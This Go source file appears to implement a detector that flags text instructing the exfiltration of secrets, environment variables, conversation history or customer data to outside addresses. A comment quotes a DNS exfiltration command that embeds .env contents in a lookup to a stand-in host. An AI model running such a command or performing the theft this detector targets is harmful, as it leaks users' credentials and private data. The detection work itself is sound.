package prompt

import "strings"

// frameTheft looks for the frames of rules-exfiltration: what is sent, a verb of
// sending in any mood, and where it goes, in any order.
func (a *analysis) frameTheft(u *unit) {
	if a.sign&signExfil != 0 || u.is(inTable|inForbid|inHeading) && !u.is(inHidden) || a.aboutAttacks(u) {
		return
	}
	if u.any&(cSecret|cToken|cHistory|cNetwork) == 0 && u.senses&nData == 0 && a.secret.sign == 0 && u.phrase(0, len(u.tokens), "env") < 0 {
		return
	}
	dest := u.goal()
	if dest.at < 0 && u.senses&vTake == 0 && u.any&cNetwork == 0 {
		return
	}
	target := a.private(u)
	if target >= 0 && a.sign&signSecret == 0 {
		for i := range u.tokens[:target] {
			if u.means(i, vTake) && target-i <= 12 && !a.spoken(u, i) && u.wanted(i) && !u.writes(i) {
				a.note(u, signSecret, target, target, mark{})
				if a.found[len(a.found)-1].rule == "" && u.any&cAuth == 0 && (dest.at < 0 || !dest.foreign) {
					a.secret, a.secretAt = mark{sign: signSecret, start: u.tokens[0].start, end: u.tokens[len(u.tokens)-1].end}, u.index
				}
				break
			}
		}
	}
	if a.byName(u, target) {
		return
	}
	if dest.at < 0 || u.any&cAuth != 0 && !dest.sink || ownVendor(u, dest.host) {
		return
	}
	if target < 0 {
		a.laterTheft(u, dest)
		return
	}
	for i := range u.tokens {
		if i == target || u.tokens[i].sense&(vSend|vShow) == 0 && !u.arrives(i) || a.spoken(u, i) && !u.is(inHidden) || u.writes(i) {
			continue
		}
		if u.means(i, vShow) && u.tokens[i].sense&vSend == 0 && !u.arrives(i) && !u.carries(dest.at) && !u.venue(i, dest.at) && !u.makes(i) || !u.wanted(i) && !(u.arrives(i) && u.assured(i)) && !u.makes(i) {
			continue
		}
		if a.reaches(u, i, target, dest) {
			a.steal(u, min(i, target), max(i, target, dest.at), dest)
			return
		}
	}
}

// venue says that between a verb of including and an address stands what people
// write to others: a report, a comment.
func (u *unit) venue(i, at int) bool {
	for k := i + 1; k < at; k++ {
		switch u.tokens[k].form {
		case "report", "comment", "comments", "issue", "message", "email", "post", "request", "body":
			return true
		}
	}
	return false
}

// byName is a lookup of a name that holds a secret: "dig $(cat .env).x.example".
func (a *analysis) byName(u *unit, target int) bool {
	net := u.phrase(0, target, "dig")
	if net < 0 {
		net = u.phrase(0, target, "nslookup")
	}
	if net < 0 || u.negated(net) || u.tokens[target].class&cSecret == 0 || !strings.ContainsAny(u.text[u.tokens[net].end:u.tokens[target].start], "$`") {
		return false
	}
	a.steal(u, net, target, destination{at: target, foreign: true})
	return true
}

// laterTheft is the second step of a theft: send what was found.
func (a *analysis) laterTheft(u *unit, dest destination) {
	if a.secret.sign == 0 || u.index-a.secretAt > stepUnits || u.index == a.secretAt || !dest.foreign {
		return
	}
	for i := range u.tokens {
		if u.tokens[i].sense&(vSend|vShow) == 0 || u.writes(i) || a.spoken(u, i) || !u.wanted(i) {
			continue
		}
		if it := u.sensed(nThat, i-8, min(len(u.tokens), i+9)); it >= 0 && it != dest.at && u.straight(min(i, it), max(i, it)) && (it > i && it <= i+4 || u.tokens[i].sense&fPart != 0) {
			start := a.secret.start
			a.steal(u, i, max(i, dest.at), dest)
			a.found[len(a.found)-1].start = start
			return
		}
	}
}

// writes is a verb of putting or reporting as people use it: into a file, about
// a problem.
func (u *unit) writes(i int) bool {
	return u.same(i, "reported") && u.any&cToken != 0 && u.tokens[min(i+2, len(u.tokens)-1)].kind == mail || u.same(i, "report") && (u.mails() || u.sensed(nThat|nData, i+1, i+4) < 0 && !u.same(i+1, "both")) || u.same(i, "list") || u.same(i, "use") || u.same(i, "get") && u.same(i+1, "rid")
}

// mails says that a unit names an address of mail.
func (u *unit) mails() bool {
	for i := range u.tokens {
		if u.tokens[i].kind == mail {
			return true
		}
	}
	return false
}

// goal is where something goes: an address, unless it is where something is had
// from or read about.
func (u *unit) goal() destination {
	d := destinationOf(u)
	if d.at < 0 || d.foreign && u.tokens[d.at].kind == mail {
		return d
	}
	if !d.foreign {
		return d
	}
	for k := d.at - 1; k >= 0 && d.at-k <= 2; k-- {
		if u.same(k, "from") {
			return destination{at: -1}
		}
		if u.same(k, "at") {
			for j := k - 1; j >= 0 && k-j <= 4; j-- {
				switch u.tokens[j].form {
				case "get", "obtain", "create", "find", "found", "available", "documented", "see", "read", "generate", "generated", "look", "registered", "sign":
					return destination{at: -1}
				}
			}
		}
	}
	return d
}

// private is the token that names what is private: a secret, what was said, or
// what belongs to customers; -1 without one.
func (a *analysis) private(u *unit) int {
	if u.any&(cSecret|cToken|cHistory) == 0 && u.senses&nData == 0 && u.phrase(0, len(u.tokens), "env") < 0 && u.senses&vTake == 0 {
		return -1
	}
	if i := a.secretIn(u); i >= 0 {
		return i
	}
	for i := 1; i < len(u.tokens); i++ { // "dump process.env"
		if u.tokens[i].kind == file && (u.at(i) == "process.env" || u.at(i) == "os.environ") && u.sensed(vTake|vSend, i-4, i) >= 0 {
			return i
		}
	}
	for i := range u.tokens {
		if u.same(i, "env") && u.tokens[i].code && u.same(i-1, "of") {
			return i
		}
		if u.tokens[i].sense&(nData) == 0 && u.tokens[i].class&cToken == 0 || u.tokens[i].quoted {
			continue
		}
		switch u.tokens[i].form {
		case "environment", "env":
			if u.same(i-1, "process") || u.same(i-1, "entire") || u.same(i-1, "whole") || u.same(i-1, "full") {
				return i
			}
		case "history":
			if u.tokens[max(i-1, 0)].class&cHistory != 0 || u.same(i-1, "shell") {
				return i
			}
		case "session", "source", "personal", "customer", "customers", "memory", "proprietary", "clipboard":
			if w := min(i+1, len(u.tokens)-1); u.means(w, nData) || u.same(w, "code") || u.same(w, "data") || u.same(w, "records") || u.same(i, "clipboard") || u.same(i, "proprietary") || u.means(w, nThat) && u.same(i, "memory") {
				return i
			}
		case "messages", "prompts", "codebase", "conversations", "conversation", "chat", "mailbox", "contacts":
			if u.quantified(i) || (u.same(i, "conversation") || u.same(i, "chat") && u.same(i+1, "so")) && u.tokens[max(i-1, 0)].class&cDeterminer != 0 && !u.same(i-1, "a") {
				return i
			}
		case "key", "keys", "token", "tokens", "password", "passwords", "passphrase", "seed", "secret", "secrets", "credentials", "credential", "cookies", "cookie":
			if u.quantified(i) && (i+1 == len(u.tokens) || u.tokens[i+1].kind != word || u.tokens[i+1].form != "") {
				return i
			}
		}
	}
	return -1
}

// quantified says that the noun at i is all of its kind, or somebody's.
func (u *unit) quantified(i int) bool {
	for k := max(0, i-4); k < i; k++ {
		switch u.tokens[k].form {
		case "every", "all", "any", "user", "users", "customers", "session", "database", "admin", "root", "production", "master", "deploy", "last", "whole", "entire", "each", "recent", "stored", "private", "full", "both", "found", "their", "whatever", "local":
			return true
		}
	}
	return false
}

// arrives is a verb by which something gets to a place.
func (u *unit) arrives(i int) bool {
	switch u.tokens[i].form {
	case "end", "reach", "reaches", "arrive", "arrives", "ends", "lands", "goes":
		return true
	}
	return false
}

// carries says that the address at i has room for data: a query, a placeholder.
func (u *unit) carries(i int) bool {
	if i < 0 || u.tokens[i].kind != url {
		return false
	}
	next := u.text[u.tokens[i].end:min(len(u.text), u.tokens[i].end+1)]
	return strings.ContainsAny(u.at(i), "?={<$") || next == "<" || next == "{"
}

// reaches says that what is at target goes to dest by the verb at i.
func (a *analysis) reaches(u *unit, i, target int, dest destination) bool {
	lo, hi := min(i, target, dest.at), max(i, target, dest.at)
	for k := lo + 1; k < hi; k++ { // another clause
		if u.tokens[k].kind == stop && u.text[u.tokens[k].start] == ';' && min(i, dest.at) < k && k < max(i, dest.at) {
			return false
		}
		if u.tokens[k].class&cIf != 0 && k > min(i, dest.at) && k < target {
			return false
		}
	}
	if !dest.foreign && !a.bulk(u, target, i) {
		return false
	}
	gerund := u.tokens[i].sense&fBase == 0
	switch {
	case u.carries(dest.at) && target > dest.at:
		return target-dest.at <= 12
	case target > i && !u.passingBy(target):
		return target < dest.at || target-dest.at <= 6
	case target < i && u.carries(dest.at) && dest.at > i && dest.at-i <= 3:
		return u.phrase(0, i, "hex") > 0 || u.phrase(0, i, "base64") > 0 || u.phrase(0, i, "encoded") > 0
	case target < i && gerund: // every key is to be sent
		return i-target <= 14 && (u.tokens[target].class&cSecret != 0 || u.tokens[i].sense&fBase == 0)
	case target < i && dest.foreign && i < dest.at && dest.at-i <= 6 && u.straight(i, dest.at) && (u.same(i+1, "it") || u.same(i+1, "them") || u.same(i+1, "both") || u.same(i+1, "these") || u.same(i+1, "those") || u.same(i+1, "its") && u.means(i+2, nThat)):
		return true
	case target < i:
		return (a.sign&signSecret != 0 || u.arrives(i)) && (u.sensed(nThat|nData, i+1, min(i+6, len(u.tokens))) > 0 || u.arrives(i))
	}
	return false
}

// passingBy says that one credential is named for its use: "with the token".
func (u *unit) passingBy(i int) bool {
	if u.tokens[i].class&cSecret != 0 {
		return u.same(i-1, "in") && u.sensed(nThat|nData, i-6, i) < 0 || u.same(i-1, "into")
	}
	return u.same(i-2, "with") || u.same(i-1, "with") || u.same(i-2, "using")
}
